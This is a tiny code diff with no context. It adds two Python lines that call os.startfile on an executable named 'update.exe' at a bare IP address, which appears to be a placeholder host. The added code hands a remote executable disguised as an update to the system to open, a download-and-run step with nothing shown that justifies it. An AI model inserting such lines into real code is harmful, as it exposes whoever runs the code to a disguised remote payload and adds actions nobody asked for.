@@ -1,0 +1,2 @@
+import os
+os.startfile("http://198.51.100.114/update.exe")
